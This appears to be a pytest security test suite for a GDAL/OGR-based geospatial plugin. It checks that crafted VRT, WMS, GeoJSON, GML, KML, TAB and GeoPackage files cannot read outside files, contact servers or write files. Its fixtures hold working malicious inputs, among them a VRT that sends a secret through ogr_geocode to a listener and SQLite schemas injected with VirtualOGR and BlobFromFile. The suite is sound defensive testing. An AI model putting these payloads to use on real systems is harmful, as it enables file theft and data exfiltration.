"""A file's content does not choose the driver that opens it: what names other files or servers is
refused, nothing leaves.
"""

import contextlib
import http.server
import json
import sqlite3
import threading
import zipfile

import pytest
from osgeo import gdal, ogr, osr

from clairville.algorithms.common.errors import ClairvilleError, SourceError
from clairville.plugin.host import opening
from clairville.plugin.host.systems import reference
from clairville.plugin.sources import open_source
from clairville.plugin.sources.file import FileSource
from clairville.plugin.sources.http import Client
from clairville.plugin.sources.kinds import RASTERS

SECRET = "TOPSECRET77"


@pytest.fixture
def listener():
    """(port, the paths it was asked for)."""
    asked = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(404)
            self.end_headers()

        def log_message(self, *_):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1], asked
    server.shutdown()


@pytest.fixture
def secret(tmp_path):
    """A table of the officer's, in a folder that no source has to do with."""
    folder = tmp_path / "home"
    folder.mkdir()
    path = folder / "secret.csv"
    path.write_text(f"id,value,x,y\n1,{SECRET},3.06,50.63\n", encoding="utf-8")
    return path


def bodies(secret, port, written):
    """{kind: body} of files that are orders, not data."""
    away = f"http://127.0.0.1:{port}"
    layer = '<OGRVRTLayer name="secret"><SrcDataSource{}>{}</SrcDataSource>{}</OGRVRTLayer>'
    vrt = "<OGRVRTDataSource>{}</OGRVRTDataSource>"
    geocode = (
        f"<SrcSQL dialect=\"SQLITE\">select ogr_geocode(value,'raw','QUERY_TEMPLATE={away}/?q=%s',"
        f"'CACHE_FILE={written}') from secret</SrcSQL>"
    )
    return {
        "vrt": vrt.format(layer.format("", secret, "")),
        "vrt relative": vrt.format(
            layer.format(' relativeToVRT="1"', f"../home/{secret.name}", "")
        ),
        "vrt sends": vrt.format(layer.format("", secret, geocode)),
        "vrt asks": vrt.format(layer.format("", f"/vsicurl/{away}/a.csv", "")),
        "vrt after json": "  \n" + vrt.format(layer.format("", secret, "")),
        "wfs": f"<OGRWFSDataSource><URL>{away}/wfs</URL></OGRWFSDataSource>",
        "wms": f'<GDAL_WMS><Service name="WMS"><ServerUrl>{away}/wms?</ServerUrl></Service></GDAL_WMS>',
        "oapif": json.dumps(
            {"links": [{"rel": "data", "href": f"{away}/collections"}], "conformsTo": []}
        ),
        "stac": json.dumps(
            {
                "type": "FeatureCollection",
                "stac_version": "1.0.0",
                "features": [],
                "links": [{"rel": "next", "href": f"{away}/next"}],
            }
        ),
        "raster vrt": f'<VRTDataset rasterXSize="1" rasterYSize="1"><VRTRasterBand band="1"><SimpleSource><SourceFilename>'
        f"/vsicurl/{away}/a.tif</SourceFilename></SimpleSource></VRTRasterBand></VRTDataset>",
        "geojson crs": json.dumps(
            {
                "type": "FeatureCollection",
                "crs": {"type": "name", "properties": {"name": f"{away}/crs"}},
                "features": [
                    {
                        "type": "Feature",
                        "properties": {},
                        "geometry": {"type": "Point", "coordinates": [3, 50]},
                    }
                ],
            }
        ),
        "geojson crs link": json.dumps(
            {
                "type": "FeatureCollection",
                "features": [
                    {
                        "type": "Feature",
                        "properties": {},
                        "geometry": {"type": "Point", "coordinates": [3, 50]},
                    }
                ],
                "crs": {"type": "link", "properties": {"href": f"{away}/crs", "type": "proj4"}},
            }
        ),
        "gml schema": f'<?xml version="1.0"?><wfs:FeatureCollection xmlns:wfs="http://www.opengis.net/wfs" '
        f'xmlns:gml="http://www.opengis.net/gml" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        f'xsi:schemaLocation="http://a {away}/wfs?request=DescribeFeatureType"><gml:featureMember><a fid="a.1">'
        f'<gml:pointProperty xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="{away}/p.gml#p"/>'
        f"<n>1</n></a></gml:featureMember></wfs:FeatureCollection>",
        "kml link": f'<kml xmlns="http://www.opengis.net/kml/2.2"><NetworkLink><Link><href>{away}/a.kml</href></Link>'
        f"</NetworkLink></kml>",
        "address": f"{away}/a.geojson",
        "http": f"HTTP:{away}",
        "esri pages": json.dumps(
            {
                "exceededTransferLimit": True,
                "geometryType": "esriGeometryPoint",
                "features": [{"attributes": {"a": 1}, "geometry": {"x": 3, "y": 50}}],
                "fields": [{"name": "a", "type": "esriFieldTypeInteger"}],
            }
        ),
        "tab view": f'!table\n!version 300\n!charset WindowsLatin1\n\nOpen Table "{secret.with_suffix("")}" Hide\n'
        f"create view v as select * from secret\n",
    }


@pytest.mark.parametrize(
    "name",
    [
        "works.geojson",
        "works",
        "works.json",
        "works.xml",
        "works.gml",
        "works.kml",
        "works.php",
        "works.vrt",
        "works.tab",
        "works.gpkg",
        "works.shp",
        "works.zip",
        "works.geojson.gz",
    ],
)
def test_no_file_reads_sends_or_writes(tmp_path, listener, secret, name):
    import gzip

    port, asked = listener
    (tmp_path / "data").mkdir()
    written = tmp_path / "written.csv"
    for kind, body in bodies(secret, port, written).items():
        path = tmp_path / "data" / name
        if name.endswith(".zip"):
            with zipfile.ZipFile(path, "w") as archive:
                for inside in ("works.geojson", "works.vrt", "a/works.xml"):
                    archive.writestr(inside, body)
        else:
            path.write_bytes(
                gzip.compress(body.encode()) if name.endswith(".gz") else body.encode()
            )
        client = Client()
        rows = []
        with contextlib.suppress(ClairvilleError):
            source = FileSource(
                {"path": name, "crs": "EPSG:4326", "format": "ogr"}, path.parent, client
            )
            source.announce()
            rows = [row for chunk in source.records() for row in chunk]
        client.close()
        assert SECRET not in repr(rows), kind
        assert not asked, (kind, asked)
        assert not written.exists(), kind


@pytest.mark.parametrize(
    "table",
    [
        "create virtual table works using VirtualOGR('{secret}')",
        "create virtual table works using VirtualText('{secret}', 'UTF-8', 1, POINT, DOUBLEQUOTE, ',')",
        "create virtual table works using \"VirtualOGR\" ('{secret}', 0, 'secret')",
        "create view works as select ogr_geocode('{secret}', 'raw', 'QUERY_TEMPLATE=http://127.0.0.1:{port}/?q=%s') as g",
        "create view works as select BlobFromFile('{secret}') as value",
    ],
)
@pytest.mark.parametrize("name", ["w.gpkg", "w.sqlite", "w"])
def test_a_database_reads_only_itself(tmp_path, listener, secret, table, name):
    port, asked = listener
    made = ogr.GetDriverByName("GPKG" if name != "w.sqlite" else "SQLite").CreateDataSource(
        str(tmp_path / "w.gpkg" if name != "w.sqlite" else tmp_path / name)
    )
    layer = made.CreateLayer("other", None, ogr.wkbNone)
    layer.CreateField(ogr.FieldDefn("a", ogr.OFTString))
    del layer, made
    path = tmp_path / ("w.sqlite" if name == "w.sqlite" else "w.gpkg")
    with contextlib.closing(sqlite3.connect(path)) as database:
        database.execute("pragma writable_schema = 1")
        text = table.format(secret=secret, port=port)
        kind = "view" if "create view" in text else "table"
        database.execute(
            "insert into sqlite_master (type, name, tbl_name, rootpage, sql) values (?, 'works', 'works', 0, ?)",
            (kind, text),
        )
        if name != "w.sqlite":
            database.execute(
                "insert into gpkg_contents (table_name, data_type, identifier) values "
                "('works', 'attributes', 'works')"
            )
        database.commit()
    path = path.rename(tmp_path / name)
    with pytest.raises(SourceError, match="not opened|cannot be read"):
        opening.vector(path, path.name)
    assert not asked


def geotiff(path, value=7, metadata=None, options=()):
    made = gdal.GetDriverByName("GTiff").Create(str(path), 8, 8, 1, gdal.GDT_Byte, list(options))
    made.SetGeoTransform((704000, 1, 0, 7059000, 0, -1))
    made.SetProjection(reference("EPSG:2154").ExportToWkt())
    made.GetRasterBand(1).Fill(value)
    for domain, items in (metadata or {}).items():
        made.SetMetadata(items, domain)
    del made
    return path


def raster_vrt(source):
    return (
        f'<VRTDataset rasterXSize="8" rasterYSize="8"><GeoTransform>704000, 1, 0, 7059000, 0, -1</GeoTransform>'
        f'<SRS>EPSG:2154</SRS><VRTRasterBand dataType="Byte" band="1"><SimpleSource><SourceFilename>{source}'
        f"</SourceFilename><SourceBand>1</SourceBand></SimpleSource></VRTRasterBand></VRTDataset>"
    )


def cells(folder, name, crs="EPSG:2154"):
    """All values of a raster as its source gives them."""
    client = Client()
    try:
        source = open_source({"type": "file", "path": name}, folder, client, RASTERS)
        source.cover(None, crs)
        source.announce()
        return [v for _, values in source.blocks() for v in values.ravel().tolist()]
    finally:
        client.close()


@pytest.mark.parametrize("name", ["r.tif", "r.asc", "r.img", "r.zip", "r.bin", "r.vrt", "tiles/"])
def test_no_raster_opens_another(tmp_path, listener, name):
    port, asked = listener
    (tmp_path / "home").mkdir()
    other = geotiff(tmp_path / "home" / "other.tif", 99)
    folder = tmp_path / "data"
    folder.mkdir()
    sources = (
        str(other),
        "../home/other.tif",
        f"/vsicurl/http://127.0.0.1:{port}/a.tif",
        f"&lt;GDAL_WMS&gt;&lt;Service name='WMS'&gt;&lt;ServerUrl&gt;http://127.0.0.1:{port}/?&lt;/ServerUrl&gt;",
    )
    for text in [
        *map(raster_vrt, sources),
        "ncols 8\nnrows 8\n" + raster_vrt(other),
        f'<GDAL_WMS><Service name="TMS"><ServerUrl>http://127.0.0.1:{port}/</ServerUrl></Service></GDAL_WMS>',
    ]:
        if name == "r.zip":
            with zipfile.ZipFile(folder / name, "w") as archive:
                archive.writestr("a.tif", text)
                archive.writestr("b.vrt", text)
        elif name == "tiles/":
            (folder / "tiles").mkdir(exist_ok=True)
            geotiff(folder / "tiles" / "a.tif")
            (folder / "tiles" / "b.tif").write_text(text, encoding="utf-8")
        else:
            (folder / name).write_text(text, encoding="utf-8")
        with pytest.raises(SourceError):
            cells(folder, name.rstrip("/"))
        assert not asked


def test_no_raster_opens_another_through_its_overviews(tmp_path, listener):
    port, asked = listener
    other = geotiff(tmp_path / "other.tif", 99)
    for name, beside in (
        ("a.tif", {}),
        ("b.tif", {"b.tif.ovr": raster_vrt(other)}),
        ("c.tif", {"c.tif.msk": raster_vrt(other)}),
        (
            "d.tif",
            {
                "d.tif.aux.xml": f'<PAMDataset><Metadata domain="OVERVIEWS"><MDI key="OVERVIEW_FILE">'
                f"{other}</MDI></Metadata></PAMDataset>"
            },
        ),
    ):
        geotiff(
            tmp_path / name,
            metadata={"OVERVIEWS": {"OVERVIEW_FILE": raster_vrt(other)}}
            if name == "a.tif"
            else None,
        )
        for side, text in beside.items():
            (tmp_path / side).write_text(text, encoding="utf-8")
        with pytest.raises(SourceError):
            cells(tmp_path, name)
    assert not asked


def test_the_tiles_of_a_mosaic_on_disk_are_read(tmp_path):
    geotiff(tmp_path / "a.tif")
    gdal.BuildVRT(str(tmp_path / "all.vrt"), [str(tmp_path / "a.tif")]).FlushCache()
    assert set(cells(tmp_path, "all.vrt")) == {7.0}


@pytest.mark.parametrize(
    "text",
    [
        "http://127.0.0.1:{port}/crs",
        "HTTP://127.0.0.1:{port}/crs",
        "{file}",
        "/vsicurl/http://127.0.0.1:{port}/a",
        "+proj=longlat +nadgrids={file}",
        "+init={file}:1",
        "ESRI::{file}",
    ],
)
def test_a_system_is_a_code_not_an_address(tmp_path, listener, text):
    port, asked = listener
    (tmp_path / "a.prj").write_text(reference("EPSG:2154").ExportToWkt(), encoding="utf-8")
    with pytest.raises(SourceError):
        reference(text.format(port=port, file=tmp_path / "a.prj"))
    assert not asked


@pytest.mark.parametrize(
    "text",
    [
        "EPSG:2154",
        "epsg:4326",
        "IGNF:LAMB93",
        "urn:ogc:def:crs:EPSG::2154",
        "OGC:CRS84",
        "WGS84",
        "+proj=longlat +datum=WGS84",
        "http://www.opengis.net/def/crs/EPSG/0/2154",
    ],
)
def test_systems_are_known_by_all_their_names(text):
    crs = reference(text)
    assert (
        crs.GetName()
        and reference(crs.ExportToWkt()).IsSame(crs)
        and isinstance(crs, osr.SpatialReference)
    )


def test_settings_of_gdal_come_back(tmp_path):
    gdal.SetThreadLocalConfigOption("OGR_XLSX_HEADERS", "DISABLE")
    try:
        with contextlib.suppress(SourceError):
            opening.vector(tmp_path / "none.geojson", "none")
        assert gdal.GetThreadLocalConfigOption("OGR_XLSX_HEADERS") == "DISABLE"
        assert gdal.GetThreadLocalConfigOption("GML_SKIP_RESOLVE_ELEMS") is None
    finally:
        gdal.SetThreadLocalConfigOption("OGR_XLSX_HEADERS", None)


def test_a_filter_that_is_not_understood_is_refused(tmp_path):
    (tmp_path / "a.geojson").write_text(
        json.dumps(
            {
                "type": "FeatureCollection",
                "features": [{"type": "Feature", "properties": {"kind": "x"}, "geometry": None}],
            }
        ),
        encoding="utf-8",
    )
    for where in ("kind = ", "nonsense((", "other = 1", "'"):
        with pytest.raises(SourceError) as error:
            FileSource(
                {"path": "a.geojson", "crs": "EPSG:4326", "where": where}, tmp_path, Client()
            ).announce()
        assert error.value.code == "source_bad_where" and "kind" in str(error.value)


def test_a_pipe_is_no_file(tmp_path):
    import os

    os.mkfifo(tmp_path / "p.csv")
    for name in ("p.csv", "/dev/zero"):
        with pytest.raises(SourceError) as error:
            FileSource({"path": name}, tmp_path, Client()).announce()
        assert error.value.code == "source_not_a_file"
